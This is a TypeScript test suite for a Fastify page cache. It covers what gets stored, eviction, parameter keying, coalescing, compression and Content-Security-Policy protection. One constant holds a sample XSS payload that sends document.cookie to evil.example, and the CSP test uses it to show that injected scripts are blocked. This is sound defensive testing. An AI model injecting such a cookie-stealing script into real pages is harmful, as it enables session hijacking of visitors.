import compress from '@fastify/compress';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterEach, describe, expect, it } from 'vitest';
import zlib from 'node:zlib';
import { createContentEvents, type ContentEvents } from '#domain/content-events/content-events.ts';
import { ALL_PAGES, knowledgeTag, PAGE_TAG, pathTag } from '#shared/cache-tags.ts';
import type { VisitorInputs } from '#shared/request-inputs.ts';
import { expectCachedAs } from '#tests/setup/page-cache-hits.ts';
import { scriptHash } from '../page-cache/http-cache.ts';
import type { PathReads } from '../page-cache/route-reads.ts';
import { createPageCache, type PageCache } from './page-cache.ts';
import { registerSecurity } from './security.ts';

// The page cache with a stand-in for React Router, so each rule can be driven exactly.

/** Stand-in route declarations: the knowledge list reads q and page; its items and the press list have tags. */
function readsFor(path: string): PathReads {
  const tags = [ALL_PAGES, pathTag(path)];
  const item = /^\/knowledge-center\/([^/]+)$/.exec(path);
  if (item) tags.push(knowledgeTag(item[1]!));
  if (path === '/press-releases') tags.push(PAGE_TAG.pressList);
  return { query: new Set(path === '/knowledge-center' ? ['q', 'page'] : []), tags };
}

const INJECTED = 'fetch("https://evil.example/?c="+document.cookie)';

interface Rendered {
  status?: number;
  headers?: Record<string, string | string[]>;
  /** receives the nonce of this render, as React puts it on the scripts it writes */
  html: (nonce: string) => string;
}

let app: FastifyInstance | null = null;
afterEach(async () => {
  await app?.close();
  app = null;
});

/** What a render was given of the visitor: the Cookie header React Router would see, and the load context's inputs. */
interface Seen {
  cookie: string | null;
  visitor: VisitorInputs;
}

async function setup(maxBytes: number, page: (url: string, search: string, seen: Seen) => Rendered | Promise<Rendered>) {
  const instance = Fastify({ logger: false });
  const events: ContentEvents = createContentEvents();
  const cache: PageCache = createPageCache(instance, {
    maxBytes,
    security: { dev: false, recaptcha: false },
    events,
    mayRedirect: () => false,
    shownNoticeId: async () => 'notice-1',
  });
  cache.useRoutes(readsFor);
  await registerSecurity(instance, { dev: false, recaptcha: false });
  await instance.register(compress, { global: true, encodings: ['br', 'gzip'], threshold: 1024 });
  instance.addHook('onRequest', cache.onRequest);
  let renders = 0;
  instance.get('/*', async (request, reply) =>
    cache.serve(request, reply, {
      webRequest: (search) => {
        const url = new URL(`http://localhost${request.url}`);
        if (search !== undefined) url.search = search;
        return new Request(url, { headers: request.headers as Record<string, string> });
      },
      render: async (webRequest, nonce, visitor) => {
        renders++;
        const r = await page(new URL(webRequest.url).pathname, new URL(webRequest.url).search, {
          cookie: webRequest.headers.get('cookie'),
          visitor,
        });
        const headers = new Headers({ 'content-type': 'text/html; charset=utf-8', 'cache-control': 'private, no-cache' });
        for (const [k, v] of Object.entries(r.headers ?? {})) for (const one of [v].flat()) headers.append(k, one);
        return new Response(r.html(nonce), { status: r.status ?? 200, headers });
      },
      send: async (response) => {
        if (response.status < 300 || response.status >= 400) throw new Error('only HTML and redirects in these tests');
        return reply.code(response.status).header('location', response.headers.get('location')).send();
      },
    }),
  );
  await instance.ready();
  app = instance;
  return { app: instance, cache, events, renders: () => renders };
}

const doc = (nonce: string, extra = '') =>
  `<!doctype html><html><head><script nonce="${nonce}">window.__ctx={a:1}</script></head><body>${extra}<p>${'text '.repeat(400)}</p>` +
  `<script type="module" nonce="${nonce}">import("/assets/entry.js")</script></body></html>`;

describe('page cache', () => {
  it('never stores a reply that sets a cookie', async () => {
    const t = await setup(1024 * 1024, () => ({ headers: { 'set-cookie': ['visitor=1; Path=/'] }, html: (n) => doc(n) }));
    const first = await t.app.inject('/page');
    expect([first.headers['set-cookie']].flat()).toEqual(['visitor=1; Path=/']);
    await t.app.inject('/page');
    expect(t.renders()).toBe(2);
    expect(t.cache.store.size).toBe(0);
  });

  it('never stores a status other than 200, 301, 302 and 404', async () => {
    const t = await setup(1024 * 1024, (url) => ({ status: url === '/broken' ? 500 : url === '/gone' ? 404 : 403, html: (n) => doc(n) }));
    await t.app.inject('/broken');
    await t.app.inject('/denied');
    await t.app.inject('/gone');
    expect(t.cache.store.size).toBe(1);
    expect((await t.app.inject('/gone')).headers['x-page-cache']).toBe('hit');
    expect((await t.app.inject('/broken')).headers['x-page-cache']).toBeUndefined();
  });

  it('never stores private areas, previews, or requests with an Authorization header', async () => {
    const t = await setup(1024 * 1024, () => ({ html: (n) => doc(n) }));
    for (const url of [
      '/api/x',
      '/auth/login',
      '/account',
      '/account/profile',
      '/siteadmin',
      '/siteadmin/pages',
      '/preview/page',
      '/preview/abc/',
      '/agrotain.data',
      '/product-selector',
    ]) {
      await t.app.inject(url);
    }
    await t.app.inject({ url: '/page', headers: { authorization: 'Bearer token' } });
    expect(t.cache.store.size).toBe(0);
  });

  it('blocks an injected inline script on stored and on freshly rendered pages: only the renderer’s scripts are hashed', async () => {
    const t = await setup(1024 * 1024, (url) => ({
      headers: url === '/fresh' ? { 'set-cookie': 'x=1' } : ({} as Record<string, string>),
      html: (n) => doc(n, `<script>${INJECTED}</script>`),
    }));
    for (const [url, state] of [
      ['/stored', 'miss'],
      ['/stored', 'hit'],
      ['/fresh', 'miss'],
    ] as const) {
      const res = await t.app.inject(url);
      if (url === '/stored') expect(res.headers['x-page-cache']).toBe(state);
      const scriptSrc = /script-src ([^;]*)/.exec(String(res.headers['content-security-policy']))![1]!.split(' ');
      expect(scriptSrc).toContain(`'${scriptHash('window.__ctx={a:1}')}'`);
      expect(scriptSrc).toContain(`'${scriptHash('import("/assets/entry.js")')}'`);
      expect(scriptSrc).not.toContain(`'${scriptHash(INJECTED)}'`);
      expect(scriptSrc.some((s) => s.includes('nonce') || s === "'unsafe-inline'")).toBe(false);
      // the marker nonce is gone from the bytes: it grants nothing and would only make them differ
      expect(res.body).not.toContain('nonce=');
    }
  });

  it('holds the memory budget, evicting the least recently used page', async () => {
    const t = await setup(120_000, (url) => ({ html: (n) => doc(n, `<p>${url} ${'x'.repeat(9_000)}${Math.random()}</p>`) }));
    for (let i = 0; i < 20; i++) {
      await t.app.inject(`/p${i}`);
      // keep the first page in use
      await t.app.inject('/p0');
      expect(t.cache.store.bytes).toBeLessThanOrEqual(120_000);
    }
    expect(t.cache.store.size).toBeGreaterThan(1);
    expect(t.cache.store.size).toBeLessThan(20);
    expect((await t.app.inject('/p0')).headers['x-page-cache']).toBe('hit');
    expect((await t.app.inject('/p1')).headers['x-page-cache']).toBe('miss');
  });

  it('keys a page on the parameters its route declares, and renders it without any other', async () => {
    const t = await setup(1024 * 1024, (url, search) => ({ html: (n) => doc(n, `<p>${url}${search}</p>`) }));
    const plain = await t.app.inject('/product');
    await expectCachedAs(
      t.app,
      [
        '/product?utm_source=mail&utm_campaign=spring',
        '/product?ref=partner-1',
        '/product?source=x&campaign_id=7&_ga=2.1',
        '/product?q=zinc',
      ],
      plain.body,
    );
    expect(t.renders()).toBe(1);
    // the parameters a page reads make their own entry, rendered without the others, in one order
    const listed = await t.app.inject('/knowledge-center?q=zinc&utm_medium=email&ref=x&page=2');
    expect(listed.headers['x-page-cache']).toBe('miss');
    expect(listed.body).toContain('<p>/knowledge-center?q=zinc&page=2</p>');
    expect(listed.body).not.toMatch(/utm_|ref=/);
    expect((await t.app.inject('/knowledge-center?q=zinc&page=2')).headers['x-page-cache']).toBe('hit');
    expect((await t.app.inject('/knowledge-center?q=zinc&fresh=1&page=2')).headers['x-page-cache']).toBe('hit');
    expect((await t.app.inject('/knowledge-center?q=corn')).headers['x-page-cache']).toBe('miss');
    expect(t.cache.store.size).toBe(3);
  });

  it('renders a page it may store with exactly the visitor inputs of its key, and no Cookie header', async () => {
    const t = await setup(1024 * 1024, (_url, _search, { cookie, visitor }) => ({
      html: (n) => doc(n, `<p>region=${visitor.region} dismissed=${visitor.noticeDismissed} cookie=${cookie}</p>`),
    }));
    const get = (url: string, cookie?: string, extra: Record<string, string> = {}) =>
      t.app.inject({ url, headers: { ...(cookie === undefined ? {} : { cookie }), ...extra } });

    const malformed = await get('/page', 'region=3x; other=1; notice-dismissed=notice-0');
    expect(malformed.body).toContain('<p>region=null dismissed=false cookie=null</p>');
    await expectCachedAs(t.app, ['/page'], malformed.body);
    const ca = await get('/page', 'region=3; notice-dismissed=notice-1');
    expect(ca.headers['x-page-cache']).toBe('miss');
    expect(ca.body).toContain('<p>region=3 dismissed=true cookie=null</p>');
    expect((await get('/page', 'notice-dismissed=notice-1; region=3; other=2')).headers['x-page-cache']).toBe('hit');
    expect(t.renders()).toBe(2);

    // a route that fixes the region is not given one: one entry for every region
    const product = await get('/agrotain', 'region=3');
    expect(product.body).toContain('<p>region=null dismissed=false cookie=null</p>');
    expect((await get('/agrotain', 'region=4')).headers['x-page-cache']).toBe('hit');
    expect(t.renders()).toBe(3);

    // not stored: the page sees the request's cookies, and the same parsed inputs
    const once = await get('/page', 'region=3x', { authorization: 'Bearer x' });
    expect(once.headers['x-page-cache']).toBeUndefined();
    expect(once.body).toContain('<p>region=null dismissed=false cookie=region=3x</p>');
  });

  it('gives a redirect the page answers with the parameters its route does not read, stored or not', async () => {
    const t = await setup(1024 * 1024, (url) =>
      url === '/moved' ? { status: 301, headers: { location: '/product' }, html: () => '' } : { html: (n) => doc(n) },
    );
    const first = await t.app.inject('/moved?utm_source=mail&ref=x');
    expect(first.statusCode).toBe(301);
    expect(first.headers.location).toBe('/product?utm_source=mail&ref=x');
    const stored = await t.app.inject('/moved?ref=y');
    expect(stored.headers['x-page-cache']).toBe('hit');
    expect(stored.headers.location).toBe('/product?ref=y');
    expect((await t.app.inject('/moved')).headers.location).toBe('/product');
    expect(t.renders()).toBe(1);
  });

  it('renders concurrent misses of one page once: the others wait for that render', async () => {
    let release!: () => void;
    const gate = new Promise<void>((resolve) => (release = resolve));
    const t = await setup(1024 * 1024, async () => {
      await gate;
      return { html: (n) => doc(n) };
    });
    const replies = Array.from({ length: 20 }, () => t.app.inject('/busy'));
    await new Promise((resolve) => setTimeout(resolve, 50));
    release();
    const answered = await Promise.all(replies);
    expect(t.renders()).toBe(1);
    expect(t.cache.stats).toMatchObject({ renders: 1, coalesced: 19 });
    expect(answered.map((r) => r.headers['x-page-cache']).sort()).toEqual(['miss', ...Array<string>(19).fill('coalesced')].sort());
    expect(new Set(answered.map((r) => r.body)).size).toBe(1);
  });

  it('renders again for a waiting request when the shared render may not be stored', async () => {
    let release!: () => void;
    const gate = new Promise<void>((resolve) => (release = resolve));
    const t = await setup(1024 * 1024, async () => {
      await gate;
      return { headers: { 'set-cookie': 'visitor=1' }, html: (n) => doc(n) };
    });
    const replies = Array.from({ length: 3 }, () => t.app.inject('/personal'));
    await new Promise((resolve) => setTimeout(resolve, 50));
    release();
    const answered = await Promise.all(replies);
    expect(t.renders()).toBe(3);
    for (const r of answered) expect([r.headers['set-cookie']].flat()).toEqual(['visitor=1']);
  });

  it('answers a miss compressed at a fast level, and compresses a page served again at the best level in the background', async () => {
    const t = await setup(1024 * 1024, () => ({ html: (n) => doc(n, `<p>${'varied words for the compressor '.repeat(300)}</p>`) }));
    const br = { 'accept-encoding': 'br' };
    const miss = await t.app.inject({ url: '/page', headers: br });
    expect(miss.headers['content-encoding']).toBe('br');
    const identity = zlib.brotliDecompressSync(miss.rawPayload);
    expect(miss.rawPayload.length).toBe(
      zlib.brotliCompressSync(identity, {
        params: {
          [zlib.constants.BROTLI_PARAM_MODE]: zlib.constants.BROTLI_MODE_TEXT,
          [zlib.constants.BROTLI_PARAM_QUALITY]: 1,
          [zlib.constants.BROTLI_PARAM_SIZE_HINT]: identity.length,
        },
      }).length,
    );
    // gzip is made when first asked for, fast too
    const gz = await t.app.inject({ url: '/page', headers: { 'accept-encoding': 'gzip' } });
    expect(zlib.gunzipSync(gz.rawPayload).equals(identity)).toBe(true);
    await t.cache.idle();
    const best = await t.app.inject({ url: '/page', headers: br });
    expect(zlib.brotliDecompressSync(best.rawPayload).equals(identity)).toBe(true);
    expect(best.rawPayload.length).toBeLessThan(miss.rawPayload.length);
    expect(best.headers.etag).toBe(miss.headers.etag);
  });

  it('stores nothing with a budget of 0, and still answers with an ETag and a nonce', async () => {
    const t = await setup(0, () => ({ html: (n) => doc(n) }));
    const res = await t.app.inject('/page');
    await t.app.inject('/page');
    expect(t.renders()).toBe(2);
    expect(res.headers.etag).toBeTruthy();
    expect(String(res.headers['content-security-policy'])).toContain("'nonce-");
  });

  it('drops by tag when content changes, and does not keep a page rendered while it changed', async () => {
    let during: (() => void) | null = null;
    const t = await setup(1024 * 1024, () => ({
      html: (n) => {
        during?.();
        return doc(n);
      },
    }));
    await t.app.inject('/knowledge-center/a');
    await t.app.inject('/press-releases');
    t.events.changed({ kind: 'knowledge', id: 1, oldSlug: 'a', newSlug: 'a' });
    expect((await t.app.inject('/press-releases')).headers['x-page-cache']).toBe('hit');
    during = () => t.events.receive({ kind: 'knowledge', id: 1, oldSlug: 'a', newSlug: 'a' });
    expect((await t.app.inject('/knowledge-center/a')).headers['x-page-cache']).toBe('miss');
    during = null;
    expect((await t.app.inject('/knowledge-center/a')).headers['x-page-cache']).toBe('miss');
    expect((await t.app.inject('/knowledge-center/a')).headers['x-page-cache']).toBe('hit');
  });
});
